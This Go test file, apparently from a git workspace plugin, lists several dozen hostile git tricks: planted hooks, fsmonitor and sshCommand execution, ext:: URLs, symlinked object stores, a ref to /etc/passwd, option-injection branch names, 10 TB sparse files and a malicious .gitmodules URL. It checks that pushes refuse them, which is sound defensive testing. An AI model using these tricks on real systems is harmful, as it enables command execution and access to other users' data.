package hostile

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/helmdeck/repos/api"
	"github.com/helmdeck/repos/internal/git/gitserver"
	"github.com/helmdeck/repos/internal/git/gitserver/hostile"
	"github.com/helmdeck/repos/tests/testgit"
)

func init() { groups = append(groups, pushAttacks) }

// pushed returns the URL of a repository that takes pushes.
var pushed = sync.OnceValues(func() (string, error) {
	_, err := gitserver.Generate(server.Path("pushed"), gitserver.Spec{Seed: 2, Files: 30, Commits: 2, Changes: 3})
	return server.URL("pushed"), err
})

// commitWork commits a new file on a branch of its own, and prints the commit.
const commitWork = `git switch -q -c work && echo mine $(date +%s%N) >mine && git add mine && git commit -q -m mine && git rev-parse HEAD`

// foreign makes the repository of somebody else in Outside, with the secret in its branch work.
func foreign(t *testing.T, tr *trap) {
	t.Helper()
	dir := filepath.Join(tr.Outside, "repo")
	if err := os.Mkdir(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	testgit.Git(t, dir, "init", "-q", "-b", "work")
	if err := os.WriteFile(filepath.Join(dir, "mine"), []byte(tr.secret+"\n"+secondLine+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	testgit.Git(t, dir, "add", ".")
	testgit.Git(t, dir, "commit", "-q", "-m", "of "+dir) // a commit of its own, which no other case pushes
	// Everybody may read it.
	if out, err := exec.Command("chmod", "-R", "a+rX", tr.Outside).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

// bare makes an empty bare repository in Outside.
func bare(t *testing.T, tr *trap) {
	t.Helper()
	testgit.Git(t, tr.Outside, "init", "-q", "--bare", "target.git")
}

// pushAttacks returns the attacks of a container on a push of its own workspace.
func pushAttacks() []attack {
	var all []attack
	for _, c := range pushTricks {
		a := attack{group: "push", name: c.name, abuses: c.abuses, prepare: c.prepare}
		// The naive solution pushes from the container's repository, and reads back what is there.
		a.control = control{effect: c.effect, why: c.why, harmless: true, env: identity, script: `git clone -q "$REPO" w && cd w && ` + commitWork + ` && ( ` + c.script + ` )
			git status >/dev/null; git push -q origin HEAD:refs/heads/control-` + c.name + ` &&
			cd .. && git clone -q -b control-` + c.name + ` "$REPO" back && cat back/mine`,
			repo: func(t *testing.T, _ string, _ *trap) string {
				url, err := pushed()
				if err != nil {
					t.Fatal(err)
				}
				return url
			}}
		if c.why != "" {
			a.control.script = ""
		}
		if c.control != "" {
			a.control.script = `git clone -q "$REPO" w && cd w && ` + commitWork + ` && ( ` + c.script + ` ); ` + c.control
		}
		a.run = func(s *scene) { s.attackPush(c.script, c.branch, c.refused) }
		all = append(all, a)
	}
	return all
}

// attackPush runs a script in a container after it has committed, and pushes and exports its branch.
// The remote must have exactly that commit or, if the push is to be refused, none.
func (s *scene) attackPush(script, branch, refused string) {
	s.Helper()
	url, err := pushed()
	if err != nil {
		s.Fatal(err)
	}
	if err := s.create(map[string]string{"repo": url, "ref": "main"}); err != nil {
		s.Fatal(err)
	}
	tree := s.mustMount("first")
	commit, err := s.runInContainer(tree, commitWork, false)
	if err != nil {
		s.Fatalf("commit: %v %s", err, commit)
	}
	out, err := s.runInContainer(tree, script, false)
	s.Logf("%v %.2000s", err, out)
	all, err := s.plugin.Admin.Workspaces(s.Context(), api.Filter{Volume: s.volume})
	if err != nil || len(all) != 1 {
		s.Fatalf("workspaces %v, %v", all, err)
	}
	if branch == "" {
		branch = "work"
	}
	to := "plugin-" + s.name
	_, err = s.plugin.Admin.Outbound(all[0].ID).Push(s.Context(), api.Push{Branch: branch, RemoteBranch: to}, nil)
	var bundle bytes.Buffer
	_, _, bundleErr := s.plugin.Admin.Outbound(all[0].ID).Bundle(s.Context(), api.Bundle{Branch: branch}, &bundle)
	for _, err := range []error{err, bundleErr} {
		if err != nil {
			fmt.Fprintln(&s.said, err)
			s.wantPrintable("push", err.Error())
		}
		if said, ok := errors.AsType[*api.Error](err); refused != "" && (!ok || !strings.Contains(said.Message, refused)) {
			s.Errorf("got %v, want a refusal with %q", err, refused)
		} else if refused == "" && err != nil {
			s.Errorf("not pushed or exported: %v", err)
		}
	}
	got, _ := testgit.Run(testgit.Command(server.Path("pushed"), "rev-parse", "--verify", "--quiet", "refs/heads/"+to))
	if want := map[bool]string{true: strings.TrimSpace(commit)}[refused == ""]; got != want {
		s.Errorf("the remote is at %q, want %q", got, want)
	}
	s.outcome = "refused"
	if refused == "" {
		s.outcome = "pushed"
		if got := testgit.Git(s, server.Path("pushed"), "show", to+":mine"); !strings.HasPrefix(got, "mine ") {
			s.Errorf("the remote has %q", got)
		}
	}
}

// identity is who commits in a control.
func identity(*trap) []string {
	return []string{"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b"}
}

// planted returns a script for a program at path that leaves the canary.
func planted(path string) string {
	return `printf '#!/bin/sh\ntouch %s\n' "$CANARY" >` + path + `; chmod +x ` + path
}

// pushTricks are what containers do to their repository. The script runs in the container and, in a
// plain clone, in the control.
var pushTricks = []struct {
	name, abuses string
	script       string
	branch       string // empty: work
	refused      string // a part of the refusal; empty: the work is pushed as it was committed
	effect       hostile.Effect
	why          string // the reason why the attack has no control
	control      string // what the control does instead of a push
	prepare      func(t *testing.T, tr *trap)
}{
	{name: "hook", abuses: "a pre-push hook", script: planted(".git/hooks/pre-push"), effect: hostile.Runs},
	{name: "hooks-path", abuses: "a directory of hooks for pushes in .git/config", script: `mkdir evil; ` + planted("evil/pre-push") + `; git config core.hooksPath "$PWD/evil"`, effect: hostile.Runs},
	{name: "fsmonitor", abuses: "a file system monitor that runs at a push", script: setting("core.fsmonitor", "touch $CANARY; false"), effect: hostile.Runs},
	{name: "ssh-command", abuses: "an ssh program, and a URL for pushes over ssh", script: setting("core.sshCommand", "touch $CANARY;") + `; git remote set-url --push origin ssh://127.0.0.1/x`, effect: hostile.Runs},
	{name: "ext", abuses: "a URL for pushes that is a command", script: setting("protocol.ext.allow", "always") + `; git remote set-url --push origin "ext::touch $CANARY"`, effect: hostile.Runs},
	{name: "include", abuses: "a configuration elsewhere that .git/config includes", script: `git config -f conf core.fsmonitor "touch $CANARY; false"; git config include.path "$PWD/conf"`, effect: hostile.Runs},
	{name: "worktree-config", abuses: "a monitor in .git/config.worktree", script: `git config extensions.worktreeConfig true; git config -f .git/config.worktree core.fsmonitor "touch $CANARY; false"`, effect: hostile.Runs},
	{name: "filter", abuses: "a filter that runs when a push looks at the work tree", script: `git config filter.x.clean "touch $CANARY; cat"; echo '* filter=x' >.git/info/attributes; touch -d 2001-01-01 mine`, effect: hostile.Runs},
	{name: "push-instead-of", abuses: "a rewrite of the URLs of pushes", script: setting("url.$BAIT/.pushInsteadOf", "http://"), effect: hostile.Asks},
	{name: "proxy", abuses: "a proxy for pushes in .git/config", script: setting("http.proxy", "$BAIT"), effect: hostile.Asks},
	{name: "push-url", abuses: "another remote for pushes", script: `git remote set-url --push origin "$BAIT/x"`, effect: hostile.Asks},
	{name: "push-file", abuses: "a directory of the host as the remote", script: `git remote set-url --push origin "$OUTSIDE/target.git"`, effect: hostile.Writes, prepare: bare},
	{name: "alternates", abuses: "alternates to somebody else's objects", script: `echo "$OUTSIDE/repo/.git/objects" >.git/objects/info/alternates; git update-ref refs/heads/work $(cat "$OUTSIDE/repo/.git/refs/heads/work")`,
		refused: "is not complete", effect: hostile.Reads, prepare: foreign},
	{name: "objects-link", abuses: "a directory of objects that is a link to somebody else's", script: `rm -rf .git/objects; ln -s "$OUTSIDE/repo/.git/objects" .git/objects; echo $(cat "$OUTSIDE/repo/.git/refs/heads/work") >.git/refs/heads/work`,
		refused: "links", effect: hostile.Reads, prepare: foreign},
	{name: "git-file", abuses: "a .git that is a file that names somebody else's repository", script: `mv .git old; echo "gitdir: $OUTSIDE/repo/.git" >.git; git config -f "$OUTSIDE/../x" a.b c`,
		refused: "is not a directory", effect: hostile.Reads, prepare: foreign, control: `GIT_DIR=.git git show work:mine`},
	{name: "git-link", abuses: "a .git that is a link to somebody else's repository", script: `mv .git old; ln -s "$OUTSIDE/repo/.git" .git`,
		refused: "is not a directory", effect: hostile.Reads, prepare: foreign, control: `git show work:mine`},
	{name: "commondir", abuses: "a commondir with somebody else's objects and refs", script: `echo "$OUTSIDE/repo/.git" >.git/commondir`,
		effect: hostile.Reads, prepare: foreign, control: `git show work:mine`},
	{name: "refs-link", abuses: "a directory of refs that is a link to somebody else's", script: `rm -rf .git/refs; ln -s "$OUTSIDE/repo/.git/refs" .git/refs`,
		refused: "links", prepare: foreign},
	{name: "pack-link", abuses: "a pack that is a link to somebody else's", script: `git -C "$OUTSIDE/repo" -c safe.directory='*' pack-objects -q --all x </dev/null; ln -s "$OUTSIDE/secret" .git/objects/pack/pack-$(printf %040d 1).pack`,
		refused: "links", why: "no control: git needs an index beside the pack"},
	{name: "ref-link", abuses: "a branch that is a link to a secret file", script: `ln -sf "$OUTSIDE/secret" .git/refs/heads/work`, refused: "links", why: "no control: git finds no object ID there"},
	{name: "replace", abuses: "a replace ref that shows another commit in place of the pushed one", script: `echo other >mine; git add mine; git replace $(git rev-parse HEAD) $(git commit-tree -m x $(git write-tree))`,
		why: "no control: git itself ignores replace refs when it pushes"},
	{name: "shallow", abuses: "a shallow file and grafts that hide missing history", script: `m=$(git commit-tree -m gone HEAD^{tree}); c=$(git commit-tree -m x -p $m HEAD^{tree}); git update-ref refs/heads/work $c
		rm .git/objects/$(echo $m | cut -c1-2)/$(echo $m | cut -c3-); echo $c >.git/shallow; echo $c >.git/info/grafts`, refused: "is not complete", effect: hostile.Fails},
	{name: "option", abuses: "a branch with the name of an option", script: `mkdir -p ".git/refs/heads/--output=$(dirname "$CANARY")"; git rev-parse HEAD >".git/refs/heads/--output=$CANARY"`, branch: "--output=x",
		refused: "leading dash", effect: hostile.Runs, control: `for b in $(git for-each-ref --format='%(refname)' | grep -- --output | cut -d/ -f3-); do git log "$b"; done`},
	{name: "cycle", abuses: "symbolic refs in a circle", script: `echo 'ref: refs/heads/a' >.git/refs/heads/work; echo 'ref: refs/heads/work' >.git/refs/heads/a`, refused: "symbolic refs", effect: hostile.Fails},
	{name: "symbolic-up", abuses: "a symbolic ref to a file outside of the repository", script: `echo 'ref: ../../../../../etc/passwd' >.git/refs/heads/work`, refused: "within refs/", effect: hostile.Fails},
	{name: "fifos", abuses: "FIFOs in place of refs and packs", script: `rm .git/refs/heads/work; mkfifo .git/refs/heads/work .git/objects/pack/pack-$(printf %040d 2).pack`, refused: "FIFOs", why: "no control: it only makes others wait"},
	{name: "device", abuses: "a device without an end in place of a branch", script: `rm .git/refs/heads/work; mknod .git/refs/heads/work c 1 5`, refused: "devices", why: "no control: it only makes others read"},
	{name: "escapes", abuses: "a branch's file with a terminal's control sequences", script: `printf '\033[2J\033]0;owned\007' >.git/refs/heads/work`, refused: `\x1b[2J`, effect: hostile.Fails},
	{name: "packed-refs", abuses: "a packed-refs file of 10 TB", script: `truncate -s 10T .git/packed-refs`, refused: `"packed-refs" in .git of the workspace has more than`, why: "no control: it only costs"},
	{name: "reftable", abuses: "refs in another format beside those in files", script: `mkdir .git/reftable; echo x >.git/reftable/tables.list`, refused: "reftable", why: "no control: this git does not know the format"},
	{name: "sparse-pack", abuses: "a pack of 10 TB", script: `truncate -s 10T .git/objects/pack/pack-$(printf %040d 3).pack`, refused: "PUSH_MAX_SIZE", why: "no control: it only costs"},
	{name: "bomb", abuses: "a loose object that is a thousand times larger than its file", script: `truncate -s 100M big; git hash-object -w big; rm big`, refused: "PUSH_MAX_SIZE", why: "no control: it only costs"},
	{name: "many-packs", abuses: "a thousand packs", script: `for i in $(seq 1000); do : >.git/objects/pack/pack-$(printf %040d $i).pack; done`, refused: "packs", why: "no control: it only costs"},
	{name: "torn", abuses: "an object with the name of another one", script: `id=$(git rev-parse HEAD:mine); o=.git/objects/$(echo $id | cut -c1-2)/$(echo $id | cut -c3-); e=$(echo evil | git hash-object -w --stdin)
		cp -f .git/objects/$(echo $e | cut -c1-2)/$(echo $e | cut -c3-) $o`, refused: "does not have this hash", effect: hostile.Fails},
	{name: "modules", abuses: "a .gitmodules that gives an option to git clone", script: `printf '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n' >.gitmodules; git add .gitmodules; git commit -q -m m`, refused: "gitmodulesUrl",
		why: "no control: those who clone fall for it, not those who push"},
}

// TestPushIsReadOnce swaps files while they are read, again and again: the remote has one of the
// versions that the container committed, or the push says to run it again.
func TestPushIsReadOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("it takes long")
	}
	url, err := pushed()
	if err != nil {
		t.Fatal(err)
	}
	s := newScene(t, attack{group: "push", name: "swap"})
	defer s.finish()
	if err := s.create(map[string]string{"repo": url, "ref": "main"}); err != nil {
		t.Fatal(err)
	}
	tree := s.mustMount("first")
	if out, err := s.runInContainer(tree, commitWork, false); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	all, err := s.plugin.Admin.Workspaces(t.Context(), api.Filter{Volume: s.volume})
	if err != nil || len(all) != 1 {
		t.Fatalf("workspaces %v, %v", all, err)
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		s.runInContainer(tree, `i=0; while [ ! -e stop ] && [ $i -lt 60 ]; do i=$((i+1)); echo $i >mine; git commit -qam $i; git repack -qad; git prune --expire=now
			mv .git/objects .git/o; ln -s "$OUTSIDE" .git/objects; rm .git/objects; mv .git/o .git/objects; done`, false)
	}()
	done, refused := 0, 0
	for i := range 12 {
		res, err := s.plugin.Admin.Outbound(all[0].ID).Push(t.Context(), api.Push{RemoteBranch: fmt.Sprintf("swap-%d", i)}, nil)
		if err != nil {
			if _, ok := errors.AsType[*api.Error](err); !ok || strings.Contains(err.Error(), "internal error") {
				t.Errorf("push: %v", err)
			}
			refused++
			continue
		}
		done++
		if got := testgit.Git(t, server.Path("pushed"), "log", "-1", "--format=%H", "refs/heads/"+res.RemoteBranch); got != res.NewCommit {
			t.Errorf("the remote has %s, want %s", got, res.NewCommit)
		}
	}
	t.Logf("%d pushed, %d refused", done, refused)
	if err := os.WriteFile(filepath.Join(tree, "stop"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	<-ended
	testgit.Git(t, server.Path("pushed"), "fsck", "--strict", "--full")
}
